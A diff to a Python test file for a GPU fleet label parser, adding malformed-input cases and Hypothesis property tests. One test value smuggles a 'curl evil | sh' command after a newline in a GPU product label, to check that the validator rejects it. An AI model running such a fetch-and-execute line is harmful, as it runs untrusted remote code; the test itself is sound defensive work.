@@ -105,6 +105,8 @@ def test_unknown_product_uses_the_compute_labels(matrix: Any) -> None:
      "gpu-t4-1: unknown GPU product 'Mystery-GPU-9000' and no compute capability given"),
     (lambda l: l.update({"nvidia.com/gpu.count": "four"}), "nvidia.com/gpu.count = 'four': not a whole number"),
     (lambda l: l.update({"nvidia.com/cuda.driver.major": "5x5"}), "not a whole number"),
+    (lambda l: l.update({"nvidia.com/gpu.count": "\u0663"}), "not a whole number"),
+    (lambda l: l.update({"nvidia.com/gpu.compute.major": " 7"}), "not a whole number"),
     (lambda l: l.update({"nvidia.com/gpu.product": "T4\nRUN curl evil | sh"}), "holds a newline"),
     (lambda l: [l.pop(k) for k in list(l) if k.startswith("nvidia.com/") and k != "nvidia.com/gpu.present"],
      "nvidia.com/gpu in status.capacity but no GPU Feature Discovery labels"),
@@ -148,6 +150,10 @@ def test_mixed_mig_strategy_lists_the_profiles(matrix: Any) -> None:
     (a100,) = [c for c in f.classes if c.gpu.compute_capability == ComputeCapability(8, 0)]
     assert a100.mig == "mixed 1g.5gb,3g.20gb"
     assert "nvidia.com/mig-3g.20gb.count" in f.labels
+    assert a100.gpus == 8 + 14 + 4
+    labels["nvidia.com/gpu.count"] = "0"  # every GPU split into MIG devices: still a GPU node
+    (a100,) = [c for c in _parse(doc, matrix).classes if c.gpu.compute_capability == ComputeCapability(8, 0)]
+    assert a100.gpus == 18
 
 
 def test_slurm_gres_features_and_unknown_driver(matrix: Any) -> None:
@@ -240,3 +246,49 @@ def test_class_slugs_are_distinct_file_names(matrix: Any) -> None:
     assert slugs == ["v100-sxm2-16gb-d535", "t4-d535", "a100-sxm4-40gb-d535-mig", "h100-80gb-hbm3-d550"]
     doc = copy.deepcopy(_k8s())
     assert _parse(doc, matrix).classes == f.classes
+
+
+# --- property: whatever the file holds, the answer is a fleet or one line of BadInput ------------------------------
+
+from hypothesis import HealthCheck, given, settings  # noqa: E402
+from hypothesis import strategies as st  # noqa: E402
+
+_KEYS = ["nvidia.com/gpu.product", "nvidia.com/gpu.count", "nvidia.com/gpu.compute.major",
+         "nvidia.com/gpu.compute.minor", "nvidia.com/cuda.driver.major", "nvidia.com/cuda.driver.minor",
+         "nvidia.com/cuda.driver.rev", "nvidia.com/mig.strategy", "nvidia.com/gpu.memory", "nvidia.com/mig-1g.5gb.count"]
+_VALUES = st.one_of(st.text(max_size=12), st.integers(-5, 10**12).map(str), st.sampled_from(
+    ["", "0", "8", "single", "mixed", "A100-SXM4-40GB-MIG-1g.5gb", "Tesla-T4", "٣", "1e3", "7\n"]))
+_JSON = st.recursive(st.none() | st.booleans() | st.integers() | st.text(max_size=8),
+                     lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
+                     max_leaves=12)
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(edits=st.dictionaries(st.sampled_from(_KEYS), st.one_of(st.none(), _VALUES), max_size=5),
+       arch=st.sampled_from(["amd64", "arm64", "ppc64le", "", None]))
+def test_any_label_edit_gives_a_fleet_or_one_line(matrix: Any, edits: dict[str, str | None], arch: str | None) -> None:
+    doc = _k8s()
+    node = _node(doc, "gpu-t4-1")
+    labels = node["metadata"]["labels"]
+    for key, value in edits.items():
+        if value is None:
+            labels.pop(key, None)
+        else:
+            labels[key] = value
+    node["status"]["nodeInfo"]["architecture"] = arch
+    try:
+        f = _parse(doc, matrix)
+    except BadInput as exc:
+        assert "\n" not in str(exc) and str(exc).startswith("--fleet nodes.json")
+        return
+    assert f.classes
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(body=_JSON, shape=st.sampled_from(["k8s", "slurm", "raw"]))
+def test_any_json_gives_a_fleet_or_one_line(matrix: Any, body: Any, shape: str) -> None:
+    doc = {"kind": "List", "items": [body]} if shape == "k8s" else {"nodes": [body]} if shape == "slurm" else body
+    try:
+        fleet.parse(json.dumps(doc), "f.json", matrix)
+    except BadInput as exc:
+        assert "\n" not in str(exc)
